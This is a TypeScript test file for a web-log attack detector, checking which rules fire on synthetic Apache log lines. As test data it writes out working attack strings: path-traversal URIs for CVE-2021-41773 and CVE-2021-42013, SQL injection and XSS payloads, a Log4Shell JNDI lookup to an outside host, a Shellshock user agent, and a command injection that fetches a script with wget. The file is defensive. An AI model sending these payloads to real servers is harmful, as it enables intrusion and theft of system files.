import assert from 'node:assert/strict';
import fs from 'node:fs/promises';
import path from 'node:path';
import type { Event } from '../core/index.js';
import { AllowList, compileRule, Detector, type DetectorResult, type QuietDigest } from '../lib/detect/index.js';
import { CORPORA, corpus, readLines } from './support/corpora.js';
import { runCli, tempDir } from './support/helpers.js';
import { startPipeline } from './support/pipeline-harness.js';
import { benignDay } from './bench/detect.js';

const CORPUS = path.join(CORPORA, 'crowdsec-hub-tests');
const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';
const BASE = Date.UTC(2026, 11, 3, 10, 0, 0);
const MON = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const p2 = (n: number) => String(n).padStart(2, '0');

/** A combined-format access line `s` seconds after BASE. */
function acc(ip: string, method: string, target: string, status: number, s = 0, ua = CHROME, referer = '-'): string {
  const d = new Date(BASE + s * 1000);
  const t = `${p2(d.getUTCDate())}/${MON[d.getUTCMonth()]}/${d.getUTCFullYear()}:${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())} +0000`;
  return `${ip} - - [${t}] "${method} ${target} HTTP/1.1" ${status} 512 "${referer}" "${ua}"`;
}
/** An Apache 2.4 error-log line `s` seconds after BASE. */
function err(ip: string, module: string, text: string, s = 0): string {
  const d = new Date(BASE + s * 1000);
  return `[Thu Dec 03 ${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())}.000000 2026] [${module}] [pid 7005:tid 1406] [client ${ip}:51234] ${text}`;
}

/** Runs tail -> apache_access / apache_error -> detect over the lines; returns the alert events. */
async function detect(access: string[], errors: string[] = [], options = ''): Promise<Event[]> {
  const tmp = await tempDir('visor-detect-');
  try {
    const a = await tmp.file('access.log', access.join('\n') + '\n');
    const e = await tmp.file('error.log', errors.join('\n') + '\n');
    // A data directory of its own: tail checkpoints of a run over the same lines must not make this one read nothing.
    const h = await startPipeline(`
service: { data_dir: ${JSON.stringify(path.join(tmp.dir, 'data'))} }
inputs:
  a: { type: tail, path: ${JSON.stringify(a)}, read_from: beginning, exit_on_eof: true }
  e: { type: tail, path: ${JSON.stringify(e)}, read_from: beginning, exit_on_eof: true }
filters:
  access: { type: apache_access, inputs: [a], format: combined, timezone: UTC }
  error: { type: apache_error, inputs: [e], timezone: UTC }
aggregates:
  det: { type: detect, inputs: [access, error]${options ? `, ${options}` : ''} }
outputs:
  out: { type: test_record, inputs: [det] }
`);
    await h.pipeline.done();
    return h.probe('out').written;
  } finally {
    await tmp.remove();
  }
}

const fired = (alerts: Event[]) => alerts.filter((a) => a.state === 'firing').map((a) => `${a.rule} ${a.client_ip}`).sort();

describe('detect aggregate', () => {
  it('each default rule fires on attack lines, and not on their near-misses', async () => {
    const access: string[] = [];
    const errors: string[] = [];
    // probing: 16 distinct non-static 404s in one second fire; near-miss: 16 404s of static files, and 15 pages.
    for (let i = 0; i < 16; i++) access.push(acc('198.51.100.1', 'GET', `/admin${i}.php`, 404, 0));
    for (let i = 0; i < 16; i++) access.push(acc('203.0.113.1', 'GET', `/img/missing${i}.png`, 404, i));
    for (let i = 0; i < 15; i++) access.push(acc('203.0.113.2', 'GET', `/old-page-${i}`, 404, i));
    // probing leaks: 16 distinct 404s, one a minute, never fill the bucket
    for (let i = 0; i < 16; i++) access.push(acc('203.0.113.3', 'GET', `/gone/${i}`, 404, i * 60));
    // sensitive files: three probes fire; near-miss: /environment, /git-guide, /download/report.pdf
    for (const p of ['/.env', '/.git/config', '/wp-config.php~']) access.push(acc('198.51.100.2', 'GET', p, 404, 1));
    for (const p of ['/environment', '/git-guide', '/download/report.pdf', '/blog/.envy']) access.push(acc('203.0.113.4', 'GET', p, 200, 1));
    // path traversal: CVE-2021-41773, CVE-2021-42013, plain; near-miss: a dotted file name
    access.push(acc('198.51.100.3', 'GET', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', 400, 1));
    access.push(acc('198.51.100.4', 'GET', '/icons/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd', 400, 1));
    access.push(acc('198.51.100.5', 'GET', '/download?file=../../../../etc/shadow', 200, 1));
    access.push(acc('203.0.113.5', 'GET', '/files/v1..2.tar.txt?x=a.b', 200, 1));
    // SQL injection; near-miss: the words alone
    access.push(acc('198.51.100.6', 'GET', "/item.php?id=1%27%20OR%20%271%27=%271", 200, 1));
    access.push(acc('198.51.100.7', 'GET', '/news?id=-1+UNION+ALL+SELECT+1,2,concat(user(),0x3a,version())--', 200, 1));
    access.push(acc('198.51.100.8', 'GET', '/p?id=1%20AND%20SLEEP(5)', 200, 1));
    access.push(acc('203.0.113.6', 'GET', '/search?q=select+a+union+of+shoes&order=by+price', 200, 1));
    // XSS; near-miss: the word script in a search
    access.push(acc('198.51.100.9', 'GET', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 200, 1));
    access.push(acc('198.51.100.10', 'GET', '/p?x=%22%3E%3Csvg/onload=alert(document.domain)%3E', 200, 1));
    access.push(acc('203.0.113.7', 'GET', '/search?q=movie+script+writing+javascript+tutorial', 200, 1));
    // exploit strings: Log4Shell in the UA (corpus), Shellshock UA, PHP wrapper, command injection; near-miss: a ${} in text
    access.push(acc('198.51.100.11', 'GET', '/', 200, 1, '${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmw=}'));
    access.push(acc('198.51.100.12', 'GET', '/cgi-bin/status', 200, 1, '() { :; }; echo; /bin/bash -c "cat /etc/passwd"'));
    access.push(acc('198.51.100.13', 'GET', '/index.php?page=php://filter/convert.base64-encode/resource=index', 200, 1));
    access.push(acc('198.51.100.14', 'GET', '/ping.php?host=127.0.0.1;wget%20http://203.0.113.9/x.sh', 200, 1));
    access.push(acc('203.0.113.8', 'GET', '/docs/templates?var=%24%7Bname%7D&shell=zsh', 200, 1));
    errors.push(err('198.51.100.15', 'cgi:error', 'AH01215: /bin/bash: warning: HTTP_USER_AGENT: ignoring function definition attempt: /usr/lib/cgi-bin/test.sh', 1));
    errors.push(err('198.51.100.15', 'cgi:error', "AH01215: /bin/bash: error importing function definition for `HTTP_USER_AGENT': /usr/lib/cgi-bin/test.sh", 1));
    // scanner user agents; near-miss: a real crawler
    access.push(acc('198.51.100.16', 'GET', '/', 200, 1, 'sqlmap/1.7.2#stable (https://sqlmap.org)'));
    access.push(acc('198.51.100.17', 'GET', '/', 200, 1, 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)'));
    access.push(acc('198.51.100.18', 'GET', '/', 200, 1, 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)'));
    access.push(acc('203.0.113.9', 'GET', '/', 200, 1, 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'));
    // aggressive crawl: 320 pages in 2 s; near-miss: 600 pages at 1/s (sustained below the 2/s leak)
    for (let i = 0; i < 320; i++) access.push(acc('198.51.100.19', 'GET', `/page/${i}`, 200, Math.floor(i / 160)));
    for (let i = 0; i < 600; i++) access.push(acc('203.0.113.10', 'GET', `/article/${i}`, 200, i));
    // brute force: 6 POSTs answered 401; near-miss: 5 failures, then success
    for (let i = 0; i < 6; i++) access.push(acc('198.51.100.20', 'POST', '/wp-login.php', 401, i));
    for (let i = 0; i < 5; i++) access.push(acc('203.0.113.11', 'POST', '/login', 401, i));
    access.push(acc('203.0.113.11', 'POST', '/login', 302, 6));
    // and 6 failures, one every 15 s: a slow pace the 10 s leak lets through
    for (let i = 0; i < 6; i++) access.push(acc('203.0.113.14', 'POST', '/login', 401, i * 15));
    for (let i = 0; i < 6; i++) errors.push(err('198.51.100.21', 'auth_basic:error', `AH01618: user admin${i} not found: /private`, i));
    errors.push(err('203.0.113.12', 'auth_basic:error', 'AH01617: user alice: authentication failure for "/private": Password Mismatch', 1));
    // error-log signals: three invalid URIs (the corpus's CVE line); near-miss: ordinary file-not-found errors
    for (let i = 0; i < 3; i++) errors.push(err('198.51.100.22', 'core:error', 'AH00126: Invalid URI in request GET /cgi-bin/.%2E/%2E%2E/%2E%2E/etc/passwd HTTP/1.1', i));
    for (let i = 0; i < 5; i++) errors.push(err('203.0.113.13', 'core:info', `AH00128: File does not exist: /var/www/html/favicon${i}.ico`, i));

    const alerts = await detect(access, errors);
    assert.deepEqual(fired(alerts), [
      'aggressive-crawl 198.51.100.19', 'brute-force 198.51.100.20', 'brute-force 198.51.100.21', 'error-log-signals 198.51.100.22',
      'exploit-strings 198.51.100.11', 'exploit-strings 198.51.100.12', 'exploit-strings 198.51.100.13', 'exploit-strings 198.51.100.14', 'exploit-strings 198.51.100.15',
      'path-traversal 198.51.100.22', // the CVE-2021-41773 request of each invalid URI, read from the error log
      'path-traversal 198.51.100.3', 'path-traversal 198.51.100.4', 'path-traversal 198.51.100.5', 'probing 198.51.100.1',
      'scanner-user-agent 198.51.100.16', 'scanner-user-agent 198.51.100.17', 'scanner-user-agent 198.51.100.18', 'sensitive-files 198.51.100.2',
      'sql-injection 198.51.100.6', 'sql-injection 198.51.100.7', 'sql-injection 198.51.100.8', 'xss-probe 198.51.100.10', 'xss-probe 198.51.100.9',
    ].sort());
    // The crawler's 219 pages after its firing, the second Shellshock line and the second and third invalid URIs
    // came during the quiet period: reported at the end of input (their quiet periods had not ended).
    assert.deepEqual(alerts.filter((a) => a.state === 'digest').map((a) => `${a.rule} ${a.client_ip} ${a.count}`).sort(),
      ['aggressive-crawl 198.51.100.19 219', 'exploit-strings 198.51.100.15 1', 'path-traversal 198.51.100.22 2']);
    const probe = alerts.find((a) => a.rule === 'probing')!;
    assert.equal(probe.count, 16);
    assert.equal(probe.distinct, 16);
    assert.equal(probe.first, BASE);
    assert.equal(probe.last, BASE);
    assert.equal(probe.state, 'firing');
    assert.equal(probe.kind, 'detect');
    assert.equal(probe.name, 'probing');
    assert.equal(probe.severity, 'warning');
    assert.equal((probe.evidence as string[]).length, 3);
    assert.deepEqual(probe.samples, probe.evidence);
    assert.equal((probe.evidence as string[])[0], access[0]);
    assert.match(String(probe.message), /^\[warning\] probing: 198\.51\.100\.1 — 16 distinct/);
  });

  it('path-traversal reads the error-log lines that quote a refused request as sent (AH00126, AH10244, AH00127, 2.2), and no other message', async function () {
    const raspim = readLines(path.join(corpus(this, 'raspim-raspbian-apache22'), 'error.log.1')).filter((l) => l.includes('Invalid URI in request'));
    assert.equal(raspim.length, 13);
    const attacks = [
      // CVE-2021-41773 refused by 2.4 as AH00126 (the crowdsec corpus's line, its trailing blank included)
      err('198.51.100.23', 'core:error', 'AH00126: Invalid URI in request GET /cgi-bin/.%2E/%2E%2E/%2E%2E/%2E%2E/%2E%2E/%2E%2E/%2E%2E/%2E%2E/%2E%2E/etc/passwd HTTP/1.1 ', 1),
      // CVE-2021-42013 refused by 2.4.51+ (AH10244 quotes the URI alone)
      err('198.51.100.24', 'core:error', 'AH10244: invalid URI path (/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd)', 1),
      // AH00127 after an APR error, which 2.4 writes before the client
      '[Thu Dec 03 10:00:01.000000 2026] [core:error] [pid 7005:tid 1406] (20023)The given path was above the root path: [client 198.51.100.25:51234] AH00127: Cannot map GET /icons/.%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1 to file',
      // 2.2, unnumbered, an encoded backslash traversal
      '[Thu Dec 03 10:00:01 2026] [error] [client 198.51.100.26] Invalid URI in request GET /..%5c..%5c..%5cwindows/win.ini HTTP/1.0',
      // AH00026 at LogLevel info: an encoded slash, refused with 404
      err('198.51.100.27', 'core:info', "AH00026: found %2f (encoded '/') in URI path (/cgi-bin/..%2f..%2f..%2fetc/passwd), returning 404", 1),
    ];
    const nearMisses = [
      err('203.0.113.15', 'core:error', 'AH00126: Invalid URI in request GET index.html HTTP/1.1', 1), // no leading slash
      // a TLS handshake sent to port 80, its bytes escaped by Apache, two of them dots (0x2e)
      '[Thu Dec 03 10:00:01 2026] [error] [client 203.0.113.16] Invalid URI in request \\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03..\\xa5',
      // application code, not a request: a relative include
      err('203.0.113.17', 'php7:warn', 'PHP Warning:  include(../config/local.php): failed to open stream: No such file or directory in /var/www/html/index.php on line 3', 1),
      // CVE-2021-41773 on 2.4.49, denied after normalisation: a path on disk
      err('203.0.113.18', 'authz_core:error', 'AH01630: client denied by server configuration: /etc/passwd', 1),
      ...raspim, // the same, real: 13 TLS handshakes on a Raspbian 2.2
    ];
    // `parsed` fires once for every client whose lines reached detect parsed, so no near-miss passes unread.
    const alerts = await detect([], [...attacks, ...nearMisses], 'default_pack: true, disable: [exploit-strings, brute-force], rules: [{ name: parsed, when: "message_text != null" }]');
    const by = (rule: string) => [...new Set(alerts.filter((a) => a.state === 'firing' && a.rule === rule).map((a) => a.client_ip))].sort();
    assert.deepEqual(by('parsed'), ['192.168.5.148', '192.168.5.188', '198.51.100.23', '198.51.100.24', '198.51.100.25', '198.51.100.26', '198.51.100.27', '203.0.113.15', '203.0.113.16', '203.0.113.17', '203.0.113.18']);
    assert.deepEqual(by('path-traversal'), ['198.51.100.23', '198.51.100.24', '198.51.100.25', '198.51.100.26', '198.51.100.27']);
    const cve = alerts.find((a) => a.rule === 'path-traversal' && a.client_ip === '198.51.100.23')!;
    assert.equal(cve.severity, 'critical');
    assert.deepEqual(cve.evidence, [attacks[0]], 'the error-log line is the evidence');
    assert.equal(cve.first, BASE + 1000);
  });

  it('fires on the crowdsec-hub-tests attack lines (CVE-2021-41773, Log4Shell, sensitive files, probing)', async function () {
    const lines = async (d: string) => (await fs.readFile(path.join(CORPUS, d, `${d}.log`), 'utf8')).split('\n').filter(Boolean);
    const access = [...await lines('apache-cve-2021-41773'), ...await lines('apache_log4j2_cve-2021-44228'), ...await lines('apache2-http-sensitive-files'), ...await lines('apache-http-probing')]
      .filter((l) => !l.startsWith('['));
    const rules = new Set((await detect(access)).map((a) => a.rule));
    for (const r of ['path-traversal', 'exploit-strings', 'sensitive-files', 'probing']) assert.ok(rules.has(r), `${r} did not fire: ${[...rules].join(', ')}`);
  });

  it('allow-lists (networks and a condition) suppress; a quiet period holds a second firing; disable and override apply', async () => {
    const access = [
      acc('10.1.2.3', 'GET', '/.env', 404, 0, 'sqlmap/1.7'),
      acc('2001:db8::5', 'GET', '/', 200, 0, 'sqlmap/1.7'),
      acc('192.0.2.50', 'GET', '/', 200, 0, 'nikto monitor'),
      // quiet: fires at 0, held at 60 s (within the default 10 min), fires again after 11 min
      acc('192.0.2.60', 'GET', '/', 200, 0, 'sqlmap/1.7'),
      acc('192.0.2.60', 'GET', '/', 200, 60, 'sqlmap/1.7'),
      acc('192.0.2.60', 'GET', '/', 200, 660, 'sqlmap/1.7'),
      // override: traversal needs 2 events now
      acc('192.0.2.70', 'GET', '/a/../../etc/passwd', 404, 0),
      acc('192.0.2.71', 'GET', '/a/../../etc/passwd', 404, 0),
      acc('192.0.2.71', 'GET', '/b/../../etc/passwd', 404, 1),
      // disabled rule
      acc('192.0.2.80', 'GET', '/q?id=1%20UNION%20SELECT%201', 200, 0),
    ];
    const options = `allow_networks: [10.0.0.0/8, "2001:db8::/32"], allow_when: 'user_agent == "nikto monitor"', disable: [sql-injection], override: { path-traversal: { capacity: 1 } }`;
    const alerts = await detect(access, [], `${options}, quiet_digest: false`);
    assert.deepEqual(fired(alerts), ['path-traversal 192.0.2.71', 'scanner-user-agent 192.0.2.60', 'scanner-user-agent 192.0.2.60']);
    const second = alerts.filter((a) => a.client_ip === '192.0.2.60')[1];
    assert.equal(second.quiet_matches, 1, 'without digests, the held match is counted into the next firing');
    assert.equal(second.first, BASE + 660_000);
    // With digests (the default) the held match is reported when the quiet period ends, before the next firing.
    const digested = (await detect(access, [], options)).filter((a) => a.client_ip === '192.0.2.60');
    assert.deepEqual(digested.map((a) => `${a.state} ${a.count} ${a.quiet_matches ?? '-'}`), ['firing 1 0', 'digest 1 -', 'firing 1 0']);
  });

  describe('quiet-period digests', () => {
    const SQLMAP = 'sqlmap/1.7.2#stable (https://sqlmap.org)';
    const digests = (alerts: Event[]) => alerts.filter((a) => a.state === 'digest');

    it('a client that keeps attacking during the quiet period gets one digest when it ends: count, first, last, samples, by event time', async () => {
      const access = [
        acc('198.51.100.30', 'GET', '/', 200, 0, SQLMAP), // fires; quiet until 10:10:00
        acc('198.51.100.30', 'GET', '/a', 200, 60, SQLMAP),
        acc('198.51.100.30', 'GET', '/b', 200, 120, SQLMAP),
        acc('198.51.100.30', 'GET', '/c', 200, 599, SQLMAP),
        acc('198.51.100.30', 'GET', '/d', 200, 590, SQLMAP), // out of order, still inside the quiet period
        acc('203.0.113.40', 'GET', '/other-client', 200, 599), // not past the end yet: nothing is due
        acc('203.0.113.40', 'GET', '/ends-it', 200, 600), // another client's request: event time passes 10:10:00
        acc('203.0.113.40', 'GET', '/after', 200, 700),
      ];
      const alerts = await detect(access, [], 'samples: 2');
      assert.deepEqual(alerts.map((a) => `${a.state} ${a.rule} ${a.client_ip}`), ['firing scanner-user-agent 198.51.100.30', 'digest scanner-user-agent 198.51.100.30']);
      const d = digests(alerts)[0]!;
      assert.equal(d.count, 4);
      assert.equal(d.first, BASE + 60_000);
      assert.equal(d.last, BASE + 599_000, 'the newest match (an older line arriving later does not move it back)');
      assert.equal(d.since, d.first);
      assert.deepEqual(d.evidence, [access[1], access[2]], 'the first samples: the raw lines');
      assert.deepEqual(d.samples, d.evidence);
      assert.equal(d.cooldown, '10m');
      assert.equal(d.quiet_until, BASE + 600_000);
      assert.equal(d.quiet_ended, true);
      assert.equal(d.kind, 'detect');
      assert.equal(d.name, 'scanner-user-agent');
      assert.match(String(d.message), /^\[warning\] scanner-user-agent: 198\.51\.100\.30 — 4 more matching requests during the 10m quiet period after the alert from .* — e\.g\. 198\.51\.100\.30 - - \[03\/Dec\/2026:10:01:00 \+0000\] "GET \/a /);
    });

    it('near-misses: no digest without quiet matches, none with quiet_digest: false, a match at the very end is a new firing', async () => {
      const access = [
        acc('198.51.100.31', 'GET', '/', 200, 0, SQLMAP), // fires, then nothing more from it
        acc('198.51.100.32', 'GET', '/', 200, 0, SQLMAP), // fires, then again exactly when its quiet period ends
        acc('198.51.100.32', 'GET', '/again', 200, 600, SQLMAP),
        acc('203.0.113.41', 'GET', '/late', 200, 1300),
      ];
      const alerts = await detect(access);
      assert.deepEqual(alerts.map((a) => `${a.state} ${a.client_ip}`), ['firing 198.51.100.31', 'firing 198.51.100.32', 'firing 198.51.100.32']);
      assert.equal(alerts[2]!.quiet_matches, 0);
      const held = [acc('198.51.100.33', 'GET', '/', 200, 0, SQLMAP), acc('198.51.100.33', 'GET', '/x', 200, 30, SQLMAP), acc('203.0.113.42', 'GET', '/', 200, 700)];
      assert.deepEqual(digests(await detect(held, [], 'quiet_digest: false')), []);
      assert.equal(digests(await detect(held)).length, 1, 'the same lines with digests on');
    });

    it('a quiet period still open at the end of input is reported at flush (quiet_ended: false), per rule and client', async () => {
      const access = [
        acc('198.51.100.34', 'GET', '/', 200, 0, SQLMAP),
        acc('198.51.100.34', 'GET', '/.env', 404, 10, SQLMAP), // a scanner match and a sensitive-files match (below its capacity)
        acc('198.51.100.35', 'GET', '/', 200, 5, SQLMAP),
        acc('198.51.100.35', 'GET', '/y', 200, 20, SQLMAP),
        acc('198.51.100.35', 'GET', '/z', 200, 30, SQLMAP),
      ];
      const alerts = await detect(access);
      const d = digests(alerts);
      assert.deepEqual(d.map((a) => `${a.rule} ${a.client_ip} ${a.count} ${a.quiet_ended}`), ['scanner-user-agent 198.51.100.34 1 false', 'scanner-user-agent 198.51.100.35 2 false']);
      assert.match(String(d[0]!.message), /1 more matching request so far in the 10m quiet period after the alert \(reported before it ended\)/);
    });

    it('the quiet periods waiting for a digest are capped at max_clients: at the cap the one ending first is reported early', () => {
      const rule = compileRule({ name: 'any', when: 'status == 200', quiet: 600_000 });
      const detector = new Detector([rule], new AllowList([]), { maxClients: 2, samples: 1, digests: true, sampleOf: (e) => String(e.client_ip) });
      const out: DetectorResult[] = [];
      const at = (ip: string, s: number) => detector.process({ client_ip: ip, status: 200, timestamp: BASE + s * 1000 }, out);
      // Each client fires, then matches once in its quiet period (its bucket is the cache's most recent then).
      for (const [ip, s] of [['192.0.2.1', 0], ['192.0.2.2', 2]] as const) { at(ip, s); at(ip, s + 1); }
      assert.equal(detector.waitingDigests, 2);
      assert.deepEqual(out.map((r) => r.state), ['firing', 'firing'], 'nothing reported before the cap');
      at('192.0.2.3', 4);
      at('192.0.2.3', 5); // a third quiet period to wait: 192.0.2.1's (ending first) is reported now
      assert.deepEqual(out.slice(3).map((r) => `${r.state} ${r.client_ip} ${r.count} ${(r as QuietDigest).ended}`), ['digest 192.0.2.1 1 false']);
      assert.equal(detector.waitingDigests, 2);
      detector.flush(out);
      assert.deepEqual(out.slice(4).map((r) => `${r.state} ${r.client_ip}`), ['digest 192.0.2.2', 'digest 192.0.2.3']);
      assert.equal(detector.waitingDigests, 0);
    });

    it('override.RULE.quiet sets the period a digest waits for; the other rules keep theirs', async () => {
      const access = [
        acc('198.51.100.36', 'GET', '/', 200, 0, SQLMAP),
        acc('198.51.100.36', 'GET', '/p', 200, 10, SQLMAP),
        acc('203.0.113.43', 'GET', '/', 200, 61),
      ];
      const alerts = await detect(access, [], 'override: { scanner-user-agent: { quiet: 1m } }');
      assert.deepEqual(alerts.map((a) => `${a.state} ${a.cooldown ?? ''} ${a.quiet_ended ?? ''}`.trim()), ['firing', 'digest 1m true']);
    });
  });

  it('keeps at most max_clients clients under a flood of addresses, and says so in its metrics', async () => {
    const access: string[] = [];
    for (let i = 0; i < 5000; i++) access.push(acc(`10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`, 'GET', `/p${i}`, 404, 0));
    const tmp = await tempDir('visor-detect-');
    try {
      const a = await tmp.file('access.log', access.join('\n') + '\n');
      const h = await startPipeline(`
inputs:
  a: { type: tail, path: ${JSON.stringify(a)}, read_from: beginning, exit_on_eof: true }
filters:
  access: { type: apache_access, inputs: [a], format: combined, timezone: UTC }
aggregates:
  det: { type: detect, inputs: [access], max_clients: 100 }
outputs:
  out: { type: test_record, inputs: [det] }
`);
      await h.pipeline.done();
      const m = h.metrics.snapshot().det as unknown as { custom: Record<string, number> };
      assert.equal(m.custom.visor_detect_clients_max, 100);
      assert.ok(m.custom.visor_detect_clients <= 100 && m.custom.visor_detect_clients >= 50, String(m.custom.visor_detect_clients));
    } finally {
      await tmp.remove();
    }
  });

  for (const [what, benign] of [['raises no alert on a generated benign day (bursts, daily profile, browser and crawler agents)', true],
    ['fires on the scanners the generator\'s default content includes by design (the same day with them)', false]] as const) it(what, async function () {
    this.timeout(120_000);
    const lines = 150_000;
    const day = benignDay(lines, 5);
    const gen = JSON.stringify(benign ? day : { ...day, content: undefined });
    const h = await startPipeline(`
inputs:
  gen: ${gen}
filters:
  access: { type: apache_access, inputs: [gen], format: combined, timezone: UTC }
aggregates:
  det: { type: detect, inputs: [access] }
outputs:
  out: { type: test_record, inputs: [det] }
  rest: { type: blackhole, inputs: [access._unparsed] }
`);
    await h.pipeline.done();
    const m = h.metrics.snapshot().access as unknown as { received_events: number };
    assert.equal(m.received_events, lines);
    const alerts = h.probe('out').written;
    if (benign) assert.deepEqual(fired(alerts), []);
    else for (const r of ['scanner-user-agent', 'sensitive-files']) assert.ok(alerts.some((a) => a.rule === r), `${r} did not fire`);
  });

  it('visor validate reports bad rules at their place (exit 78)', async () => {
    const tmp = await tempDir('visor-detect-');
    try {
      const cfg = await tmp.file('p.yaml', `inputs:
  a: { type: stdin }
aggregates:
  det:
    type: detect
    inputs: [a]
    disable: [no-such-rule]
    override: { probing: { capacity: -1 }, nope: { leak: 1s } }
    allow_networks: [10.0.0.0/33, not-an-ip]
    rules:
      - { name: probing, when: 'status == 404' }
      - { name: mine, when: 'status >= ' }
    default_pack: true
outputs:
  o: { type: stdout, inputs: [det] }
`);
      const r = await runCli(['validate', '-c', cfg]);
      assert.equal(r.code, 78, r.stderr + r.stdout);
      const text = r.stderr + r.stdout;
      for (const want of [/p\.yaml:7:\d+: .*no rule is named "no-such-rule"/, /p\.yaml:8:\d+: .*capacity/, /p\.yaml:8:\d+: .*no rule is named "nope"/, /p\.yaml:9:\d+: .*prefix length/,
        /p\.yaml:9:\d+: .*"not-an-ip" is no address/, /p\.yaml:11:\d+: .*default pack/, /p\.yaml:12:\d+: .*when/]) assert.match(text, want);
    } finally {
      await tmp.remove();
    }
  });
});
